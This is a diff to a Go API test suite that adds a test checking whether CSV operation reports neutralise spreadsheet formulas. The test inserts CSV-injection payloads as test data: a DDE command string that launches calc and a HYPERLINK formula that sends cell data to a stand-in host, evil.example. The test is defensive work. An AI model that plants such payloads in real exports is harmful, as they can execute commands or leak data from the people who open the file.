@@ -1,6 +1,8 @@
 package api_test
 
 import (
+	"bytes"
+	"encoding/csv"
 	"net/http"
 	"slices"
 	"strings"
@@ -262,6 +264,84 @@ func TestLicenseSummaryLargeSelection(t *testing.T) {
 			if p.State != "none" || len(p.AssignedUserIDs) != 0 {
 				t.Fatalf("E3 = %+v", p)
 			}
+		}
+	}
+}
+
+// The CSV report defuses spreadsheet formulas in every free-text cell: user
+// and SKU IDs (clients choose them, and '=' is allowed), names from the
+// directory, and error messages.
+func TestReportCSVDefusesFormulas(t *testing.T) {
+	t.Parallel()
+	b := testapp.New(t, testapp.Options{Workers: 1})
+	c := b.Client("p", "global_admin")
+	c.Must(200, "PUT", "/v1/products/=E5", map[string]any{"name": "E5"})
+	c.Must(201, "POST", "/v1/customers", map[string]any{"id": "csv", "name": "CSV", "default_usage_location": "PL"})
+	no := false
+	c.Must(200, "POST", "/v1/customers/csv/users/import", map[string]any{"users": []map[string]any{
+		{"id": "=cmd|'-Ccalc'!A0", "user_principal_name": "+upn@x", "display_name": "@SUM(1+1)"},
+		{"id": "-neg", "user_principal_name": "neg@x", "display_name": "\tTabbed"},
+		{"id": "plain", "user_principal_name": "plain@x", "display_name": "Plain", "account_enabled": no},
+	}})
+	c.Must(200, "PUT", "/v1/customers/csv/subscriptions/=E5", map[string]int{"total": 5})
+	var acc struct{ ID string }
+	c.Must(202, "POST", "/v1/customers/csv/license-operations", map[string]any{
+		"user_ids": []string{"=cmd|'-Ccalc'!A0", "-neg", "plain"}, "assign": []string{"=E5"},
+	}).JSON(t, &acc)
+	if op := c.WaitOperation(acc.ID, 30*time.Second); op.Succeeded != 2 || op.Failed != 1 {
+		t.Fatalf("operation = %+v, want 2 succeeded and plain failed", op)
+	}
+	// No rule writes a message that starts with a formula character today;
+	// the report must defuse one all the same.
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	if _, err := b.Store.DB().Exec(`UPDATE operation_items SET error_message = $2 WHERE operation_id = $1 AND user_id = 'plain'`, acc.ID, evil); err != nil {
+		t.Fatal(err)
+	}
+	resp := c.Must(200, "GET", "/v1/operations/"+acc.ID+"/report?format=csv", nil)
+	records, err := csv.NewReader(bytes.NewReader(resp.Body)).ReadAll()
+	if err != nil {
+		t.Fatalf("csv: %v", err)
+	}
+	if len(records) != 4 {
+		t.Fatalf("%d records, want a header and 3 rows:\n%s", len(records), resp.Body)
+	}
+	col := map[string]int{}
+	for i, name := range records[0] {
+		col[name] = i
+	}
+	rows := map[string][]string{}
+	for _, rec := range records[1:] {
+		for i, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
+				t.Errorf("cell %s of %q starts with a formula character: %q", records[0][i], rec[0], cell)
+			}
+		}
+		rows[strings.TrimPrefix(rec[0], "'")] = rec
+	}
+	want := map[string]map[string]string{
+		"=cmd|'-Ccalc'!A0": {"user_id": "'=cmd|'-Ccalc'!A0", "display_name": "'@SUM(1+1)", "user_principal_name": "'+upn@x",
+			"assigned": "'=E5", "licenses": "'=E5", "status": "succeeded", "usage_location": "PL"},
+		"-neg":  {"user_id": "'-neg", "display_name": "'\tTabbed", "licenses": "'=E5"},
+		"plain": {"user_id": "plain", "display_name": "Plain", "licenses": "", "error_code": "UserDisabled", "error_message": "'" + evil},
+	}
+	for id, cells := range want {
+		rec, ok := rows[id]
+		if !ok {
+			t.Errorf("no row for %q", id)
+			continue
+		}
+		for name, v := range cells {
+			if got := rec[col[name]]; got != v {
+				t.Errorf("%s of %q = %q, want %q", name, id, got, v)
+			}
+		}
+	}
+	// The JSON report carries the values as they are: JSON is not a spreadsheet.
+	var rep report
+	c.Must(200, "GET", "/v1/operations/"+acc.ID+"/report", nil).JSON(t, &rep)
+	for _, row := range rep.Results {
+		if row.UserID == "-neg" && (row.DisplayName != "\tTabbed" || strings.Join(row.Licenses, ",") != "=E5") {
+			t.Errorf("JSON row = %+v", row)
 		}
 	}
 }
